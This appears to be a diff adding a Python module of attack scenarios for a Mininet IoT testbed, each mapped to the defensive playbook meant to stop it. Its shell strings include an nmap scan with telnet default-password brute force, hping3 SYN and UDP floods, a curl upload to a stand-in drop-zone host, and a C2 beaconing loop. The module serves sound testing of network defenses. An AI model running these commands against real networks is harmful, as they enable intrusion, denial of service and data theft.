@@ -1,0 +1,139 @@
+"""Attack scenarios: real tools in Mininet hosts, each with its expected answer.
+
+Every scenario is a function `(net, attacker=None, seconds=...) -> Attack`.  It
+starts the attack inside the attacker's host (or hosts) under `timeout`,
+records the processes with the network (so `stop_network` ends them by PID
+too), and timestamps the moment it launched the first packet.  `Attack.stop()`
+ends them by PID early.  `SCENARIOS[name].expect` names the shipped playbook
+and the action that should mitigate it.
+
+    scan        Mirai-like: nmap SYN scan of the LAN on 23/2323, then telnet
+                attempts on the hosts it found               -> quarantine
+    syn_flood   hping3 TCP SYN flood towards the internet host -> rate_limit
+    udp_flood   hping3 UDP flood towards the internet host     -> rate_limit
+    slow_scan   TCP connects to port 23 on one new LAN host every 0.12 s, below
+                the burst threshold                          -> block_lateral
+    exfil       a 40 MB upload to a drop zone it never talked to -> block_ip of it
+    c2          three devices of one class start beaconing to a C2 address
+                                                               -> block_ip of it
+"""
+
+from __future__ import annotations
+
+import os
+import signal
+import time
+from dataclasses import dataclass, field
+from typing import Callable
+
+from topologies.net import IoTTopo, start_process
+
+
+@dataclass
+class Attack:
+    name: str
+    attackers: list[str]
+    started: float                  # time.time() just before the first packet was sent
+    procs: list = field(default_factory=list)
+
+    def stop(self) -> None:
+        for p in self.procs:
+            if p.poll() is None:
+                try:
+                    os.killpg(p.pid, signal.SIGKILL)
+                except (ProcessLookupError, PermissionError):
+                    p.kill()
+        for p in self.procs:
+            try:
+                p.wait(5)
+            except Exception:  # noqa: BLE001 - cleanup must go on
+                pass
+
+
+@dataclass(frozen=True)
+class Scenario:
+    name: str
+    run: Callable[..., Attack]
+    playbook: str                   # the shipped playbook expected to answer
+    action: str                     # and its action
+    attackers: dict                 # topology name -> default attacker host names
+    doc: str
+
+
+def _topo(net) -> IoTTopo:
+    return net.topo
+
+
+def _start(net, name: str, hosts: list[str], script: str, seconds: int) -> Attack:
+    attack = Attack(name, hosts, 0.0)
+    cmd = lambda: ["timeout", str(int(seconds)), "sh", "-c", script + " >/dev/null 2>&1"]  # noqa: E731
+    attack.started = time.time()
+    for h in hosts:
+        attack.procs.append(start_process(net, h, cmd(), name=f"attack-{name}"))
+    return attack
+
+
+def scan(net, attackers=None, seconds: int = 30) -> Attack:
+    lan = _topo(net).LAN_CIDR
+    script = (f"nmap -sS -Pn -n -T4 --max-retries 0 -p 23,2323 --open -oG /tmp/.scan.$$ {lan}; "
+              "for h in $(awk '/23\\/open/{print $2}' /tmp/.scan.$$ | head -5); do "
+              "for pw in admin root 1234 default; do printf 'root\\n%s\\n' $pw | nc -w 1 $h 23; done; done; "
+              "rm -f /tmp/.scan.$$")
+    return _start(net, "scan", attackers or _default("scan", net), script, seconds)
+
+
+def syn_flood(net, attackers=None, seconds: int = 20) -> Attack:
+    t = _topo(net)
+    return _start(net, "syn_flood", attackers or _default("syn_flood", net),
+                  f"hping3 -S --flood -p 80 {t.INET_IP}", seconds)
+
+
+def udp_flood(net, attackers=None, seconds: int = 20) -> Attack:
+    t = _topo(net)
+    return _start(net, "udp_flood", attackers or _default("udp_flood", net),
+                  f"hping3 --udp --flood -p 9999 {t.INET_IP}", seconds)
+
+
+def slow_scan(net, attackers=None, seconds: int = 40) -> Attack:
+    base = _topo(net).LAN_CIDR.split("/")[0].rsplit(".", 1)[0]
+    script = (f"for i in $(seq 100 254) $(seq 2 99); do nc -z -w 1 {base}.$i 23 & sleep 0.12; done; wait")
+    return _start(net, "slow_scan", attackers or _default("slow_scan", net), script, seconds)
+
+
+def exfil(net, attackers=None, seconds: int = 30) -> Attack:
+    t = _topo(net)
+    script = (f"head -c 40000000 /dev/urandom | curl -s -m {seconds} -o /dev/null --data-binary @- "
+              f"http://{t.DROPZONE_IP}/upload")
+    return _start(net, "exfil", attackers or _default("exfil", net), script, seconds)
+
+
+def c2(net, attackers=None, seconds: int = 40) -> Attack:
+    t = _topo(net)
+    script = f"while :; do curl -s -m 2 -o /dev/null http://{t.C2_IP}/beacon; sleep 0.5; done"
+    return _start(net, "c2", attackers or _default("c2", net), script, seconds)
+
+
+SCENARIOS: dict[str, Scenario] = {s.name: s for s in (
+    Scenario("scan", scan, "quarantine-scanner-burst", "quarantine",
+             {"smart_home": ["camera"], "enterprise": ["cam1"]}, "Mirai-like telnet scan, then brute force"),
+    Scenario("syn_flood", syn_flood, "ratelimit-flood", "rate_limit",
+             {"smart_home": ["thermostat"], "enterprise": ["sensor1"]}, "TCP SYN flood to the internet host"),
+    Scenario("udp_flood", udp_flood, "ratelimit-flood", "rate_limit",
+             {"smart_home": ["doorbell"], "enterprise": ["printer"]}, "UDP flood to the internet host"),
+    Scenario("slow_scan", slow_scan, "block-lateral-iot", "block_lateral",
+             {"smart_home": ["tv"], "enterprise": ["badge"]}, "slow telnet sweep of the LAN"),
+    Scenario("exfil", exfil, "block-exfiltration", "block_ip",
+             {"smart_home": ["camera"], "enterprise": ["cam2"]}, "large upload to a new external host"),
+    Scenario("c2", c2, "block-c2-outbreak", "block_ip",
+             {"smart_home": ["bulb1", "bulb2", "bulb3"], "enterprise": ["ws1", "ws2", "ws3"]},
+             "three devices of one class beacon to a C2 address"),
+)}
+
+
+def _default(name: str, net) -> list[str]:
+    return list(SCENARIOS[name].attackers[_topo(net).NAME])
+
+
+def target_of(name: str, topo: IoTTopo) -> str | None:
+    """The remote address a block_ip answer should name, for the scenarios that have one."""
+    return {"exfil": topo.DROPZONE_IP, "c2": topo.C2_IP}.get(name)
